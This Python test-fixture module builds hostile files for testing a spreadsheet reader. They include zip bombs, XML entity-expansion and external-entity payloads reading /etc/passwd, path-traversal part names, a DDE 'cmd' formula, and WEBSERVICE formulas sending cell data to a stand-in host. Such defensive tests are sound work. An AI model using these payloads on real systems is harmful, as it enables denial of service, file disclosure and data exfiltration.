"""Files that arrive by e-mail and do harm, by design or by accident; each is made here, of nothing real."""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
from collections.abc import Callable, Iterable, Mapping
from itertools import cycle

from addin.excel.compound_file import compound_file
from tests.hostile.sound import MARK, SAID, Sound
from tests.workbook_templates.active_workbooks import NOWHERE, with_everything
from tests.workbook_templates.reading_workbook import edited, part_text, with_parts, zipped

__all__ = [
    "CALLED",
    "HEAVY",
    "HOSTILE",
    "OF_WORKBOOKS",
    "OTHERS",
    "READ",
    "REFUSED",
    "Kind",
    "number_at",
    "old_workbook",
    "open_document",
    "rows",
    "value",
]

Kind = Callable[[Sound], bytes]
"""Makes a hostile file of a sound one, or of nothing."""
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEAD = f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData>'.encode()
_TAIL = b"</sheetData></worksheet>"


# Files of other kinds


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def _ole_file(*streams: str) -> Kind:
    """The container of the old formats, as far as it is looked at: the names of its streams."""
    return lambda _: _OLE + b"".join(stream.encode("utf-16-le") + bytes(8) for stream in streams)


def _random_bytes() -> bytes:
    return random.Random(9).randbytes(200_000)  # noqa: S311


def _record(number: int, content: bytes) -> bytes:
    return struct.pack("<HH", number, len(content)) + content


def old_workbook(*, globals_: Iterable[bytes] = (), cells: Iterable[bytes] = ()) -> bytes:
    """An Excel 97 workbook of one sheet, of as few records as may be ([MS-XLS])."""
    begin, end = (lambda kind: _record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0, 1997, 0, 6))), _record(0x0A, b"")
    head = begin(5) + b"".join(globals_)
    name = b"\x05\x00Cases"
    place = len(head) + 4 + 6 + len(name) + len(end)
    sheet = begin(16) + b"".join(cells) + end
    listed = _record(0x0085, struct.pack("<IBB", place, 0, 0) + name)
    return compound_file({"Workbook": head + listed + end + sheet + bytes(4_096)})


def number_at(row: int, column: int) -> bytes:
    return _record(0x0203, struct.pack("<HHHd", row, column, 0, 1.0))


def open_document(table: str, *, before: str = "") -> bytes:
    # calamine knows the elements by the prefixes that programs write.
    spaces = ("office", "table", "text")
    named = " ".join(f'xmlns:{one}="urn:oasis:names:tc:opendocument:xmlns:{one}:1.0"' for one in spaces)
    sheet = f'<table:table table:name="Cases">{table}</table:table>'
    body = f"<office:body><office:spreadsheet>{sheet}</office:spreadsheet></office:body>"
    content = f'<?xml version="1.0"?>{before}<office:document-content {named}>{body}</office:document-content>'
    manifest = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content.encode()})


def value(text: str = "x", repeated: int = 1) -> str:
    cell = f'<table:table-cell table:number-columns-repeated="{repeated}" office:value-type="string">'
    return f"{cell}<text:p>{text}</text:p></table:table-cell>"


def rows(cells: str, repeated: int = 1) -> str:
    return f'<table:table-row table:number-rows-repeated="{repeated}">{cells}</table:table-row>'


# What is done to a sound file


def _noisy(content: bytes) -> bytes:
    """A workbook whose parts are kept as they are: large on the disk, so that no ratio tells it."""
    return _packed(content, zipfile.ZIP_STORED)


def _packed(content: bytes, how: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as archive, zipfile.ZipFile(target, "w", how) as out:
        for name in archive.namelist():
            out.writestr(name, archive.read(name))
    return target.getvalue()


def _with_rows(sound: Sound, rows: str) -> bytes:
    return edited(sound.content, sound.sheet, lambda xml: xml.replace(sound.end, f"{rows}{sound.end}"))


def _cell(address: str, text: str = SAID) -> str:
    row = address.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return f'<row r="{row}"><c r="{address}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _after_rows(xml: str) -> Kind:
    return lambda sound: edited(
        sound.content, sound.sheet, lambda whole: whole.replace(sound.end, f"{sound.end}{xml}", 1)
    )


def _said_instead(text: str | bytes) -> Kind:
    """Another text in the place of the mark."""
    instead = text.encode() if isinstance(text, str) else text

    def build(sound: Sound) -> bytes:
        texts = part_text(sound.content, sound.texts).encode()
        return with_parts(sound.content, {sound.texts: texts.replace(MARK.encode(), instead)})

    return build


def _declared_before(part: Callable[[Sound], str], *lines: str, encoding: str = "utf-8") -> Kind:
    """A part that begins with a document type of its own."""

    def build(sound: Sound) -> bytes:
        head, _, rest = part_text(sound.content, part(sound)).partition("?>")
        head = re.sub('encoding="[^"]+"', f'encoding="{encoding}"', head)
        whole = f"{head}?><!DOCTYPE bomb [{''.join(lines)}]>{rest.replace(MARK, f'{MARK} &a9;')}"
        return with_parts(sound.content, {part(sound): whole.encode(encoding)})

    return build


_BOMB = ('<!ENTITY a0 "aaaaaaaaaa">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)))
_FROM_A_FILE = ('<!ENTITY a9 SYSTEM "file:///etc/passwd">',)
_FROM_AFAR = (f'<!ENTITY % a SYSTEM "{NOWHERE}">', "%a;")


def _sheet(sound: Sound) -> str:
    return sound.sheet


def _book(sound: Sound) -> str:
    return sound.book


def _texts(sound: Sound) -> str:
    return sound.texts


def _overlapping(_: Sound) -> bytes:
    """Many names for the same bytes: a small file that would unpack to very much."""
    kernel = zipped({"xl/workbook.xml": b" " * (4 << 20)})
    with zipfile.ZipFile(io.BytesIO(kernel)) as archive:
        (info,) = archive.infolist()
    end = kernel.rfind(b"PK\x01\x02")
    entry = kernel[end : kernel.rfind(b"PK\x05\x06")]
    names = [b"xl/workbook.xml", *(b"xl/media/%06d.png" % number for number in range(5_000))]
    listed = b"".join(entry[:28] + struct.pack("<H", len(name)) + entry[30:46] + name for name in names)
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(listed), end, 0)
    assert info.header_offset == 0
    return kernel[:end] + listed + tail


def _filled(rows: int, columns: int) -> bytes:
    """A sheet full of numbers."""
    letters = [chr(64 + n // 26) * (n >= 26) + chr(65 + n % 26) for n in range(columns)]
    row = f'<row r="#">{"".join(f"""<c r="{one}#"><v>#</v></c>""" for one in letters)}</row>'.encode()
    return _HEAD + b"".join(row.replace(b"#", b"%d" % number) for number in range(1, rows + 1)) + _TAIL


def _with_sheets(sound: Sound, sheets: Mapping[str, bytes]) -> bytes:
    """A workbook with more sheets, by their names."""
    numbered = list(enumerate(sheets, start=100))
    named = "".join(f'<sheet name="{name}" sheetId="{n}" r:id="rS{n}"/>' for n, name in numbered)
    related = "".join(
        f'<Relationship Id="rS{n}" Type="{_OFFICE}/worksheet" Target="worksheets/s{n}.xml"/>' for n, _ in numbered
    )
    book, listed = part_text(sound.content, sound.book), part_text(sound.content, sound.relations)
    return with_parts(
        sound.content,
        {
            **{f"xl/worksheets/s{n}.xml": sheets[name] for n, name in numbered},
            sound.book: book.replace("</sheets>", f"{named}</sheets>").encode(),
            sound.relations: listed.replace("</Relationships>", f"{related}</Relationships>").encode(),
        },
    )


def _text_in_many_cells(sound: Sound) -> bytes:
    """One shared text in so many cells that laying them out would take gigabytes."""
    place = part_text(sound.content, sound.texts).partition(MARK)[0].count("<si>") - 1
    row = "".join(f'<c r="{letter}#" t="s"><v>{place}</v></c>' for letter in "ABCDEFGHIJ")
    rows = "".join(f'<row r="#">{row}</row>'.replace("#", str(number)) for number in range(1_000, 10_000))
    content = edited(sound.content, sound.texts, lambda xml: xml.replace(MARK, ("Seen. " * 5_000)[:30_000]))
    return edited(content, sound.sheet, lambda xml: xml.replace(sound.end, f"{rows}{sound.end}"))


def _rule_on_many_areas(sound: Sound) -> bytes:
    """One entry rule on every second cell of a column, each as an area of its own."""
    cells = " ".join(f"E{row}" for row in range(5, 100_000, 2))
    rule = f'<dataValidation type="list" sqref="{cells}"><formula1>x</formula1></dataValidation>'
    return _after_rows(f"<dataValidations>{rule}</dataValidations>")(sound)


def _repeated(token: bytes, *, before: bytes = b"", after: bytes = b"", megabytes: int = 4) -> Kind:
    """A sheet of cases with one token again and again: what a pattern could stumble over."""

    def build(sound: Sound) -> bytes:
        filling = before + token * ((megabytes << 20) // len(token)) + after
        xml, end = part_text(sound.content, sound.sheet).encode(), sound.end.encode()
        return with_parts(sound.content, {sound.sheet: xml.replace(end, filling + end)})

    return build


def _kept_elsewhere(part: Callable[[Sound], str], target: str) -> Kind:
    """A workbook that says of one of its parts that it lies somewhere else."""

    def build(sound: Sound) -> bytes:
        named = sound.from_book(part(sound))
        return edited(
            sound.content, sound.relations, lambda xml: xml.replace(f'Target="{named}"', f'Target="{target}"')
        )

    return build


def _another_workbook(sound: Sound) -> bytes:
    """One workbook to be checked, and another that Excel would open."""
    content = with_parts(sound.content, {"xl/second.xml": part_text(sound.content, sound.book).encode()})
    return edited(content, "_rels/.rels", lambda xml: xml.replace(f'"{sound.book}"', '"xl/second.xml"'))


def _listed(offset: int, form: str, value: int) -> Kind:
    """A file whose list of parts says something else of each."""

    def build(sound: Sound) -> bytes:
        content = bytearray(sound.content)
        listed = content.find(b"PK\x01\x02")
        while listed >= 0:
            struct.pack_into(form, content, listed + offset, value)
            listed = content.find(b"PK\x01\x02", listed + 4)
        return bytes(content)

    return build


def _declared(size: int) -> Kind:
    return _listed(24, "<I", size)


def _with_part(name: str, part: bytes = b"<a/>") -> Kind:
    return lambda sound: with_parts(sound.content, {name: part})


def _fetching(sound: Sound) -> bytes:
    """Formulas that fetch in the place of a record's texts."""
    formulas = cycle(
        (
            f'_xlfn.WEBSERVICE("{NOWHERE}?"&amp;A1)',
            f'HYPERLINK("{NOWHERE}?"&amp;B5,"made up")',
            f'_xlfn.IMAGE("{NOWHERE}")',
            "cmd|'/c never-asked'!A0",
            f'_xlfn.FILTERXML(_xlfn.WEBSERVICE("{NOWHERE}"),"//a")',
        )
    )

    def instead(found: re.Match[str]) -> str:
        return f'<c {found[1]} t="str"><f>{next(formulas)}</f><v>cached</v></c>'

    def change(xml: str) -> str:
        head, row, records = xml.rpartition('<row r="6"')
        return f"{head}{row}" + re.sub(r'<c ([^<>]*) t="s"><v>\d+</v></c>', instead, records)

    return edited(sound.content, sound.sheet, change)


OTHERS: dict[str, Kind] = {
    "empty": lambda _: b"",
    "random bytes": lambda _: _random_bytes(),
    "zip of random bytes": lambda _: b"PK\x03\x04" + _random_bytes(),
    "a PDF": lambda _: b"%PDF-1.7\n" + bytes(1_000),
    "a page of the web": lambda _: b"<html><table><tr><td>1</td></tr></table></html>",
    "a letter": lambda _: zipped({"word/document.xml": b"<w/>"}),
    "a zip of workbooks": lambda sound: zipped({"a.xlsx": sound.content}),
    "a binary workbook": lambda _: zipped({"xl/workbook.bin": bytes(100)}),
    "an old workbook": _ole_file("Workbook"),
    "an old workbook of noise": lambda _: compound_file({"Workbook": _random_bytes()}),
    "an old workbook with a far cell": lambda _: old_workbook(cells=[number_at(0, 0), number_at(65_535, 255)]),
    "an old workbook of texts beyond number": lambda _: old_workbook(
        globals_=[_record(0x00FC, struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFFF))]
    ),
    "locked": _ole_file("EncryptionInfo", "EncryptedPackage"),
    "labelled": _ole_file("EncryptedPackage", "DRMEncryptedDataSpace"),
    "an OpenDocument that repeats a cell without end": lambda _: open_document(rows(value(repeated=16_384), 1_048_576)),
    "an OpenDocument that repeats a cell fifty million times": lambda _: open_document(
        rows(value(repeated=500), 100_000)
    ),
    "an OpenDocument with a far cell": lambda _: open_document(
        rows(value()) + rows("<table:table-cell/>", 1_048_000) + rows(value(repeated=1_000))
    ),
    "an OpenDocument with entities": lambda _: open_document(
        rows(value("&a9;")), before=f"<!DOCTYPE bomb [{''.join(_BOMB)}]>"
    ),
    "zeros": lambda _: bytes(50 << 20),
    "brackets without end": lambda _: b"[" * 200_000,
    "values in values without end": lambda _: b"a = " + b"[" * 50_000 + b"]" * 50_000,
    "names in names without end": lambda _: b"a." * 100_000 + b"a = 1",
    "a number of many figures": lambda _: b'{"a": [{"name": "x", "total": ' + b"9" * 100_000 + b"}]}",
    "a line without end": lambda _: b"Status," * 1_500_000,
    "a quotation without end": lambda _: b'Status,Overview\nOpen,"' + b"x,\n" * 2_000_000,
    "ten million cells as text": lambda _: (b"1," * 100 + b"\n") * 100_000,
    "a text in another encoding": lambda _: f"Status\tOverview\nOpen\t{SAID}\n".encode("utf-16"),
}
"""Files that are no Office file of ours, whatever they are called."""

_SPOILT: dict[str, Kind] = {
    "a zip that is locked": _listed(8, "<H", 1),
    "cut short": lambda sound: sound.content[:9_000],
    "a bomb of one part": lambda sound: with_parts(sound.content, {sound.sheet: b" " * (150 << 20)}),
    "a bomb of many parts": lambda sound: with_parts(sound.content, {sound.sheet: b" " * (300 << 20)}),
    "a bomb of parts that overlap": _overlapping,
    "ten thousand parts": lambda sound: with_parts(sound.content, {f"xl/media/{n}.png": b"" for n in range(10_001)}),
    "a part outside": _with_part("../../../outside.xml"),
    "a part on a drive": _with_part("C:/outside.xml"),
    "a part behind backslashes": _with_part("..\\..\\outside.xml"),
    "texts in another file": _kept_elsewhere(_texts, "file:///etc/passwd"),
    "a sheet at a server": _kept_elsewhere(_sheet, r"\\server\share\cases.xml"),
    "a sheet outside": _kept_elsewhere(_sheet, "../../../../etc/passwd"),
    "another workbook than Excel opens": _another_workbook,
    "sizes said too large": _declared(0xFFFFFFF0),
    "sizes said too small": _declared(10),
    "packed in another way": lambda sound: _packed(sound.content, zipfile.ZIP_BZIP2),
    "a workbook behind a program": lambda sound: b"MZ" + bytes(2_000) + sound.content,
    "a part twice": lambda sound: with_parts(sound.content, {sound.sheet.upper(): b"<a/>"}),
    "entities in a sheet": _declared_before(_sheet, *_BOMB),
    "entities in the texts": _declared_before(_texts, *_BOMB),
    "entities in the workbook": _declared_before(_book, *_BOMB),
    "entities in the properties": _declared_before(lambda _: "docProps/core.xml", *_BOMB),
    "entities in another encoding": _declared_before(_texts, *_BOMB, encoding="utf-16"),
    "an entity from a file": _declared_before(_texts, *_FROM_A_FILE),
    "an entity from afar": _declared_before(_sheet, *_FROM_AFAR),
    "a cell at the last row": lambda sound: _with_rows(sound, _cell("XFD1048576")),
    "a cell at the last row of column A": lambda sound: _with_rows(sound, _cell("A1048576")),
    "a far cell behind a quoted sign": lambda sound: _with_rows(
        sound, '<row r="1048576"><c x=">" r="XFD1048576"><v>1</v></c></row>'
    ),
    "ten million cells": lambda sound: with_parts(sound.content, {sound.sheet: _filled(100_000, 100)}),
    "two million cells and more": lambda sound: _noisy(with_parts(sound.content, {sound.sheet: _filled(9_000, 230)})),
    "a text of ten million characters": lambda sound: _noisy(_with_rows(sound, _cell("B30", "ab " * 3_400_000))),
    "lone surrogates in bytes": _said_instead(b"\xed\xa0\x80 \xed\xb0\x80"),
    "lone surrogates by number": _said_instead("&#xD800; &#0;"),
    "a text in very many cells": _text_in_many_cells,
    "comments without end": _repeated(b"<!--"),
    "sections without end": _repeated(b"<![CDATA["),
    "a tag without end": _repeated(b' r="A10000"', before=b"<row><c", after=b"><v>1</v></c></row>"),
    "a name without end": _repeated(b"a", before=b'<row><c r="B900" t="e" ', after=b"><v>1</v></c></row>"),
    "a filter without end": _after_rows("<autoFilter " + "filterColumn " * 300_000 + "/>"),
}
REFUSED: Mapping[str, Kind] = {**OTHERS, **_SPOILT}
"""Kinds that are refused as a return, each in one sentence."""

READ: dict[str, Kind] = {
    "control characters": _said_instead(b"\x00 \x07 \x1b[2J"),
    "a part at the root": _with_part("/etc/outside.xml"),
    "everything active": lambda sound: with_everything(sound.content),
    "formulas that fetch in a record": _fetching,
    "the longest texts": _said_instead(
        ("Seen at 12 Example Road, ref 1/2/3, by Mr Sample; born 1/2/1990. " * 600)[:32_767]  # made up
    ),
    "the longest text of signs": _said_instead(("1/" * 20_000)[:32_767]),
    "a thousand sheets": lambda sound: _with_sheets(
        sound, {f"S{n}": _HEAD + _cell("A1").encode() + _TAIL for n in range(100, 1_100)}
    ),
    "hundreds of thousands of cells": lambda sound: _noisy(_with_sheets(sound, {"Beside": _filled(6_000, 60)})),
    "formulas begun without end": _repeated(b"<f "),
    "signs that begin numbers": _repeated(
        b">12345678", before=b'<row r="900"><c r="B900" t="str"><v', after=b"</v></c></row>"
    ),
    "errors beyond number": _repeated(b'<c r="B900" t="e"><v>#N/A</v></c>', before=b'<row r="900">', after=b"</row>"),
    "rules beyond number": _after_rows(
        "<dataValidations>" + '<dataValidation sqref="A1"/>' * 40_000 + "</dataValidations>"
    ),
    "a rule on very many areas": _rule_on_many_areas,
    "names beyond number": lambda sound: edited(
        sound.content,
        sound.book,
        lambda xml: xml.replace(
            "</definedNames>",
            "".join(f'<definedName name="n{n}">1</definedName>' for n in range(10_000)) + "</definedNames>",
        ),
    ),
    "elements inside each other": _with_part("customXml/item1.xml", b"<a>" * 80_000 + b"</a>" * 80_000),
    "damaged characters": _said_instead("_xD800_ _x0000_ \u202egnirts\u202c \u200b\ufeff _xFFFF_"),
    "a number behind signs that nobody sees": _said_instead(
        "NHS no 99\u200b9 0\u200d00 \u206000\ufeff18 or \u202e999\u202c \u2066000\u2069 0018\u200f or 99\u00ad90000018"
    ),
    "a workbook called csv": lambda sound: sound.content,
    "a workbook called ods": lambda sound: sound.content,
}
"""Kinds that are read, or whose harmless part is."""

HOSTILE: Mapping[str, Kind] = {**REFUSED, **READ}
OF_WORKBOOKS = frozenset(
    {
        "another workbook than Excel opens",
        "everything active",
        "formulas that fetch in a record",
        "a thousand sheets",
        "hundreds of thousands of cells",
    }
)
"""Those that can be done to a workbook alone."""
CALLED = {"a workbook called csv": ".csv", "a workbook called ods": ".ods"}
"""Those that are called something else than they are."""
HEAVY = frozenset(
    {
        "zeros",
        "a bomb of one part",
        "a bomb of many parts",
        "ten million cells",
        "two million cells and more",
        "a text of ten million characters",
        "ten million cells as text",
        *READ,
    }
) - {*CALLED, "a number behind signs that nobody sees", "a part at the root", "control characters"}
"""Those that take more than a moment, each run by itself."""
